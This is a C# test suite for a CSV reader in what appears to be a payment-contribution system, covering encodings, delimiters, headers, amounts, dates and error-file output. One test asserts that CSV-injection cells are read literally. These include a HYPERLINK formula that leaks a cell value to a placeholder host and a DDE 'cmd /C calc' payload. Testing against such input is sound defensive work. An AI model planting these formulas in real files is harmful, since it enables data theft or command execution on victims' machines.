using System.Text;

namespace ContributionEngine.Files.Tests;

[Parallelizable(ParallelScope.All)]
public sealed class TextTests
{
    private const string Plain = "member_no,name,amount,received_on\nA1,Zuñiga,1250.50,2021-02-10\n";
    private static readonly string[] Read = ["2 A1 125050 2021-02-10"];

    [TestCase("utf-8", false, "UTF-8")]
    [TestCase("utf-8", true, "UTF-8")]
    [TestCase("utf-16", false, "UTF-16 LE")]
    [TestCase("utf-16", true, "UTF-16 LE")]
    [TestCase("utf-16BE", false, "UTF-16 BE")]
    [TestCase("utf-16BE", true, "UTF-16 BE")]
    [TestCase("latin1", false, "Windows-1252")]
    public void Every_encoding_gives_the_same_rows_and_is_named(string encoding, bool isMarked, string named)
    {
        var coder = Encoding.GetEncoding(encoding);
        using var sheet = Reading.Survey([.. isMarked ? coder.GetPreamble() : [], .. coder.GetBytes(Plain)]).Value;
        Assert.That((sheet.Understood.Encoding, sheet.ReadRows().Single().MemberName), Is.EqualTo((named, "Zuñiga")));
        Assert.That(sheet.Told(), Is.EqualTo(Read));
    }

    [TestCase("\n")]
    [TestCase("\r\n")]
    [TestCase("\r")]
    public void Lines_may_end_in_three_ways(string end) =>
        Assert.That(Reading.Told(Plain.Replace("\n", end, StringComparison.Ordinal) + end + $"\"A{end}2\",B,1.00,2021-02-10{end}A3,C,2.00,2021-02-10"), Is.EqualTo(new[] { Read[0], $"4 A{end}2 100 2021-02-10", "6 A3 200 2021-02-10" }));

    [TestCase("Cooperativa, R.L., Tarrazú, CR, x, y\nPeriodo: enero, febrero, marzo\n\nafiliado;monto;fecha\nA1;1.250,50;10/02/2021\nA2;2.250,50;31/01/2021\n", ';', 4)]
    [TestCase("afiliado|monto|fecha\nA1|1.250,50|10/02/2021\nA2|1|31/01/2021\n", '|', 1)]
    [TestCase("sep=;\r\nafiliado;monto;fecha\r\nA1;1.250,50;10/02/2021\r\nA2;1;31/01/2021\r\n", ';', 2)]
    [TestCase("member_no,\"name; or what she is called; here; now\",amount,received_on\nA1,x,\"1,250.50\",2021-02-10\n", ',', 1)]
    public void The_header_tells_the_delimiter_wherever_it_stands(string text, char delimiter, int header)
    {
        using var sheet = Reading.Survey(text).Value;
        Assert.That((sheet.Understood.Delimiter, sheet.Understood.HeaderRow, sheet.ReadRows().First().AmountMinor), Is.EqualTo((delimiter, (long)header, 125050L)));
    }

    [TestCase(49, null)]
    [TestCase(50, "F06")]
    public void A_header_is_looked_for_in_fifty_rows(int above, string? code) =>
        Assert.That(Reading.Survey(string.Concat(Enumerable.Repeat("Cooperativa\n", above)) + Plain).Refusal?.Code, Is.EqualTo(code));

    [Test]
    public void Headers_that_only_a_map_names_tell_the_delimiter_by_its_evenness() => Assert.That(
        Reading.Told("Mitglied;Betrag;Datum\nA1;1.250,50;10.02.2021\nA2;7,25;31.01.2021\n", Reading.Terms with { Map = new SheetMap { Columns = new Dictionary<string, string> { ["member_no"] = "Mitglied", ["amount"] = "Betrag", ["received_on"] = "Datum" } } }),
        Is.EqualTo(new[] { "2 A1 125050 2021-02-10", "3 A2 725 2021-01-31" }));

    [Test]
    public void Letters_that_nobody_sees_and_blanks_of_every_kind_are_tidied() => Assert.That(
        Reading.Told("member_no,amount,received_on\n\u200B'0012\u00A0,\u20091\u202F250.50,\uFEFF2021-02-10 \n ,\u00A0,\u200B\n"), Is.EqualTo(new[] { "2 0012 125050 2021-02-10" }));

    [Test]
    public void Short_and_long_rows_are_read_and_an_amount_that_seems_cut_at_its_comma_is_a_case_for_a_person() => Assert.That(
        Reading.Told("member_no,received_on,amount,note\nA1,2021-02-10,1.50\nA2,2021-02-10,1.50,x,,\nA3,2021-02-10,1,250.50,x\nA4,2021-02-10,1.50,x,paid late\n"),
        Is.EqualTo(new[] { "2 A1 150 2021-02-10", "3 A2 150 2021-02-10", "4 A3 R07:amount", "5 A4 150 2021-02-10" }));

    [Test]
    public void Totals_rows_and_repeated_headers_are_passed_over_wherever_they_stand()
    {
        using var sheet = Reading.Survey("member_no,name,amount,received_on\nA1,x,1.00,2021-02-10\nTotal enero,,1.00,\nmember_no,name,amount,received_on\nA2,y,2.00,2021-02-10\n,GRAN TOTAL,3.00,\n").Value;
        Assert.That(sheet.Told(), Is.EqualTo(new[] { "2 A1 100 2021-02-10", "5 A2 200 2021-02-10" }));
        Assert.That(sheet.Understood.Notes, Is.EqualTo(new[] { "Rows 3 and 6 are totals rows and no payments.", "Row 4 repeats the header and was passed over." }));
    }

    [Test]
    public void A_second_header_with_other_columns_is_refused_and_not_read_under_the_first()
    {
        var refusal = Reading.Survey("member_no,name,amount,received_on\nA1,x,1.00,2021-02-10\nmember_no,amount,name,received_on\nA2,2.00,y,2021-02-10\n").Refusal!;
        Assert.That((refusal.Code, refusal.Row, refusal.Detail), Is.EqualTo(("F13", 3L, "The file cannot be read as CSV or XLSX: row 3 names the columns again in another way, so two files seem to stand one after the other.")));
    }

    [TestCase("2,54722E+11")]
    [TestCase("2.54722E+11")]
    [TestCase("1E5")]
    [TestCase("1.23457e+15")]
    public void A_number_that_a_spreadsheet_changed_is_named(string id) =>
        Assert.That(Reading.Told($"member_no;amount;received_on\n{id};1;2021-02-10\n"), Is.EqualTo(new[] { $"2 {id} R13:member_no" }));

    [TestCase("A12E5")]
    [TestCase("12E")]
    [TestCase("E5")]
    public void A_number_that_only_looks_like_it_is_not(string id) => Assert.That(Reading.Told($"member_no;amount;received_on\n{id};1;2021-02-10\n"), Is.EqualTo(new[] { $"2 {id} 100 2021-02-10" }));

    [TestCase("46265")]
    [TestCase("46265,75")]
    [TestCase("8/31/26")]
    public void A_serial_or_a_short_year_is_no_date_in_a_text(string day) => Assert.That(Reading.Told($"member_no;amount;received_on\nA1;1;{day}\n"), Is.EqualTo(new[] { "2 A1 R14:received_on" }));

    [Test]
    public void Days_that_contradict_the_majority_are_named() => Assert.That(
        Reading.Told("member_no;amount;received_on\nA1;1;31/01/2021\nA2;1;30/01/2021\nA3;1;01/31/2021\nA4;1;02/03/2021\n").Skip(2), Is.EqualTo(new[] { "4 A3 R14:received_on", "5 A4 100 2021-03-02" }));

    [Test]
    public void Days_that_contradict_each_other_evenly_are_asked_about() => Assert.That(Reading.Survey("member_no;amount;received_on\nA1;1;31/01/2021\nA3;1;01/31/2021\n").Refusal!.Code, Is.EqualTo("F14"));

    [TestCase("₡ 1 250,50")]
    [TestCase("CRC1250,50")]
    [TestCase("1'250,50 crc")]
    public void The_sign_of_the_agreements_own_currency_is_taken_off(string amount) =>
        Assert.That(Reading.Told($"member_no;amount;received_on\nA1;{amount};2021-02-10\n"), Is.EqualTo(Read));

    [TestCase("12.5|1.234|7", "F07")]
    [TestCase("12,5|1,234|7", "F07")]
    [TestCase("12.5|13.5|1.234", "1250 1350 R09")]
    [TestCase("12,5|1.234|7", "1250 123400 700")]
    public void One_clear_cell_does_not_make_a_thousand_a_fraction(string amounts, string told)
    {
        var outcome = Reading.Survey("member_no;amount;received_on\n" + string.Concat(amounts.Split('|').Select(amount => $"A1;{amount};2021-02-10\n")));
        Assert.That(outcome.Refusal?.Code ?? string.Join(' ', outcome.Value.ReadRows().Select(row => row.Problems.Count > 0 ? row.Problems[0].Code : $"{row.AmountMinor}")), Is.EqualTo(told));
    }

    [Test]
    public void The_sign_of_another_currency_makes_it_no_amount() => Assert.That(Reading.Told("member_no;amount;received_on\nA1;€ 5,50;2021-02-10\n"), Is.EqualTo(new[] { "2 A1 R07:amount" }));

    [Test]
    public void A_mark_that_a_map_tells_decides() => Assert.That(
        Reading.Told("member_no;amount;received_on\nA1;1.234;2021-02-10\n", Reading.Terms with { Map = new SheetMap { Decimal = "," } }), Is.EqualTo(new[] { "2 A1 123400 2021-02-10" }));

    [Test]
    public void Without_decimals_in_the_currency_both_marks_group() => Assert.That(
        Reading.Told("member_no;amount;received_on\nA1;1.234;2021-02-10\nA2;1,234;2021-02-10\nA3;12,5;2021-02-10\n", Reading.Terms with { Currency = Core.Currency.Of("XOF").Value }),
        Is.EqualTo(new[] { "2 A1 1234 2021-02-10", "3 A2 1234 2021-02-10", "4 A3 R09:amount" }));

    [Test]
    public void A_row_that_begins_with_a_number_sign_is_a_row() => Assert.That(Reading.Told("member_no,amount,received_on\n#1,1,2021-02-10\nA2,2,2021-02-10\n"), Is.EqualTo(new[] { "2 #1 100 2021-02-10", "3 A2 200 2021-02-10" }));

    [Test]
    public void Cells_that_a_spreadsheet_would_run_are_read_as_they_are()
    {
        var text = Encoding.UTF8.GetString(Reading.Sample("hostile", "csv-injection/cells_in_member_file.csv")).Replace("member_no,name,amount,note", "member_no,name,amount,received_on", StringComparison.Ordinal);
        using var sheet = Reading.Survey(text).Value;
        Assert.That(sheet.ReadRows().Select(row => row.MemberName), Is.EqualTo(new[]
        {
            "=1+1", "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")", "+254722000111", "-5 ADJUSTMENT", "@SUM(1+9)*cmd|' /C calc'!A0", "=1+1", "=1+1", "＝1+1", "Ann O'Neil", "a\";=1+1;\"b",
        }));
    }

    [Test]
    public void The_errors_file_pads_short_rows_and_keeps_what_stands_beyond_the_header()
    {
        using var sheet = Reading.Survey("\uFEFFmember_no,amount,received_on\nA1\nA2,1,250,2021-02-10,,\n").Value;
        using var target = new MemoryStream();
        sheet.WriteErrors(target, new Dictionary<long, (string, string)> { [2] = ("fix", "R07"), [3] = ("fix", "R07") });
        Assert.That(Encoding.UTF8.GetString(target.ToArray()), Is.EqualTo("\uFEFFmember_no,amount,received_on,,what_to_fix,error_code\nA1,,,,fix,R07\nA2,1,250,2021-02-10,fix,R07\n"));
        Assert.That(Reading.Told(target.ToArray())[1], Is.EqualTo("3 A2 R14:received_on R07:amount"));
    }

    [Test]
    public void The_errors_of_an_errors_file_replace_the_former_ones()
    {
        using var sheet = Reading.Survey("afiliado;monto;fecha;what_to_fix;error_code\n=A1;\"1,5\";2021-02-10;old;R02\n").Value;
        using var target = new MemoryStream();
        sheet.WriteErrors(target, new Dictionary<long, (string, string)> { [2] = ("new", "R07") });
        Assert.That(Encoding.UTF8.GetString(target.ToArray()), Is.EqualTo("afiliado;monto;fecha;what_to_fix;error_code\n=A1;1,5;2021-02-10;new;R07\n"));
        Assert.That(sheet.Understood.Ignored, Is.Empty);
    }

    [Test]
    public void An_errors_file_of_an_old_code_page_is_written_in_utf8_with_its_mark()
    {
        using var sheet = Reading.Survey(Encoding.Latin1.GetBytes(Plain)).Value;
        using var target = new MemoryStream();
        sheet.WriteErrors(target, new Dictionary<long, (string, string)> { [2] = ("fix", "R02") });
        Assert.That(Encoding.UTF8.GetString(target.ToArray()), Is.EqualTo("\uFEFFmember_no,name,amount,received_on,what_to_fix,error_code\nA1,Zuñiga,1250.50,2021-02-10,fix,R02\n"));
    }
}
